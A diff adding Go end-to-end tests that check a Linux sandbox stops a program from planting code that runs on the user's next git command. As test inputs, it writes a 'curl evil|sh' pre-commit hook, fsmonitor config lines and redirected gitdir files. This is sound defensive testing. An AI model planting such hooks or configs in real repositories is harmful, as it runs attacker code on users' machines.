@@ -1,0 +1,93 @@
+//go:build linux
+
+package e2e
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// What a program leaves in a repository must not run code at the user's
+// next git command outside the sandbox.
+
+// TestGitRedirects: besides .git/config and hooks, what points git at
+// other config and hooks stays read-only — a submodule's git dir, a
+// linked worktree's .git file — and a commondir the program creates (no
+// bind can hold an absent file) is reported after the run.
+func TestGitRedirects(t *testing.T) {
+	for _, u := range users {
+		t.Run(u.name, func(t *testing.T) {
+			w := newWorld(t, u)
+			repo := gitRepo(t, w)
+			mod := filepath.Join(repo, ".git", "modules", "libs", "lib") // a submodule named libs/lib
+			mustMkdir(t, mod)
+			writeFile(t, filepath.Join(mod, "config"), "[core]\n")
+			writeFile(t, filepath.Join(mod, "HEAD"), "ref: refs/heads/main\n")
+			mustMkdir(t, filepath.Join(repo, "wt"))
+			writeFile(t, filepath.Join(repo, "wt", ".git"), "gitdir: ../.git\n")
+			chownTree(t, repo, u)
+			r := w.sh("sandbox", `cd `+shQuote(repo)+` && echo '[core] fsmonitor = evil' >> .git/modules/libs/lib/config; `+
+				`echo 'gitdir: /evil' > wt/.git; echo ../../evil > .git/commondir`)
+			for _, f := range []string{filepath.Join(mod, "config"), filepath.Join(repo, "wt", ".git")} {
+				if b, _ := os.ReadFile(f); strings.Contains(string(b), "evil") {
+					t.Errorf("%s was rewritten", f)
+				}
+			}
+			if !strings.Contains(r.stderr, ".git/commondir appeared while the program ran") {
+				t.Errorf("no warning about the new .git/commondir; stderr %q", r.stderr)
+			}
+		})
+	}
+}
+
+// TestGitPlanted: a submodule's git dir the program adds below .git
+// (which a gitlink in the index would make the user's next git status
+// enter) is reported after the run; a repository's existing submodule
+// and worktree are not (a warning on every run would teach users to
+// ignore it).
+func TestGitPlanted(t *testing.T) {
+	w := newWorld(t, nobody)
+	repo := gitRepo(t, w)
+	mustMkdir(t, filepath.Join(repo, "sm"))
+	writeFile(t, filepath.Join(repo, "sm", ".git"), "gitdir: ../.git/modules/sm\n")
+	mustMkdir(t, filepath.Join(repo, ".git", "modules", "sm"))
+	writeFile(t, filepath.Join(repo, ".git", "modules", "sm", "config"), "[core]\n")
+	writeFile(t, filepath.Join(repo, ".git", "modules", "sm", "HEAD"), "ref: refs/heads/main\n")
+	chownTree(t, repo, nobody)
+	if r := w.run("--workdir", repo, "--", "/bin/true"); strings.Contains(r.stderr, "git dir") {
+		t.Errorf("a warning about the existing submodule: %q", r.stderr)
+	}
+	r := w.runEnv(gitEnv, "--workdir", repo, "--", "/bin/sh", "-c", "git init -q --bare .git/modules/lib")
+	if want := "made the git dir " + filepath.Join(repo, ".git", "modules", "lib"); !strings.Contains(r.stderr, want) {
+		t.Errorf("stderr %q: want %q", r.stderr, want)
+	}
+}
+
+// TestGitMissingHooks: a repository without .git/hooks (git init
+// --template=, libgit2) gets an empty one, read-only like any other, so
+// the program cannot make one with a pre-commit hook in it.
+func TestGitMissingHooks(t *testing.T) {
+	w := newWorld(t, nobody)
+	repo := gitRepo(t, w)
+	os.RemoveAll(filepath.Join(repo, ".git", "hooks"))
+	w.sh("sandbox", `mkdir -p `+shQuote(repo)+`/.git/hooks; echo 'curl evil|sh' > `+shQuote(repo)+`/.git/hooks/pre-commit`)
+	if w.exists(filepath.Join(repo, ".git", "hooks", "pre-commit")) {
+		t.Error("the program planted .git/hooks/pre-commit in a repository that had no hooks dir")
+	}
+}
+
+// TestNestedRootMovedAside: with a project given as --allow-write inside
+// the data dir, the directories between the two roots cannot be renamed
+// either (mv ~/.omega/workspace w2, then a new workspace/proj with its
+// own .git/config).
+func TestNestedRootMovedAside(t *testing.T) {
+	w := newWorld(t, nobody)
+	repo := gitRepo(t, w)
+	r := w.sh("sandbox", `mv "$DATA/workspace" "$DATA/w2" && mkdir -p `+shQuote(repo)+`/.git && echo '[core] fsmonitor = evil' > `+shQuote(repo)+`/.git/config`,
+		"--allow-write", repo)
+	if b, _ := os.ReadFile(filepath.Join(repo, ".git", "config")); strings.Contains(string(b), "evil") {
+		t.Errorf("the repository's config was replaced by moving the workspace aside; stderr %q", r.stderr)
+	}
+}
